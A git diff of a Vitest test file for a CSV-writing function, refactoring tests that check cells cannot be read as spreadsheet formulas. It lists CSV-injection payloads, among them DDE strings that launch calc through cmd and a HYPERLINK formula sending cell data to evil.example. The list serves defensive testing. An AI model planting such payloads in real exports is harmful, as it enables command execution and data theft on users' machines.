@@ -1,8 +1,9 @@
 import { expect, test } from 'vitest';
 import { csvLine } from '#domain/csv.ts';
 
-test('cells are parted by commas, and records by CRLF', () => {
+test('cells are parted by commas, records by CRLF, and a number is left as it is', () => {
   expect(csvLine(['a', 1, null, 2.5, ''])).toBe('a,1,,2.5,\r\n');
+  expect(csvLine([-5])).toBe('-5\r\n');
 });
 
 test.each([
@@ -18,33 +19,11 @@ test.each([
 
 /** Of OWASP's page on CSV injection, and of lists that go round. */
 const attacks = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "=cmd|' /C calc'!A0",
+  ...['=1+1', '+1+1', '-1+1', "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"],
   '=HYPERLINK("http://evil.example?x="&A1,"here")',
-  '+919876543210',
-  '+91 98765=1+1',
-  '\t=1+1',
-  '\r=1+1',
-  '\u0000=1+1',
-  '\n=1+1',
-  ' =1+1',
-  'a,=1+1',
-  'a;=1+1',
-  'a|=1+1',
-  'a\t=1+1',
-  'a\n=1+1',
-  'a\r\n=1+1',
-  'a","=1+1',
-  '"=1+1',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(1)',
-  "%0A-3+3+cmd|' /C calc'!D2\n-1",
-  ';=cmd',
+  ...['+919876543210', '+91 98765=1+1', '\t=1+1', '\r=1+1', '\u0000=1+1', '\n=1+1', ' =1+1'],
+  ...['a,=1+1', 'a;=1+1', 'a|=1+1', 'a\t=1+1', 'a\n=1+1', 'a\r\n=1+1', 'a","=1+1', '"=1+1'],
+  ...['＝1+1', '＋1', '－1', '＠SUM(1)', "%0A-3+3+cmd|' /C calc'!D2\n-1", ';=cmd'],
 ];
 
 /** However a spreadsheet takes it apart: by commas, semicolons, tabs, bars or lines, with quotes or without. */
@@ -57,8 +36,4 @@ test.each(attacks)('1.2.10 no spreadsheet takes %j for a formula', (attack) => {
 
   for (const cell of cellsAnyhow(line)) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
   expect(line).not.toMatch(/,"?\p{Cc}/u);
-});
-
-test('a number is left as it is', () => {
-  expect(csvLine([-5])).toBe('-5\r\n');
 });
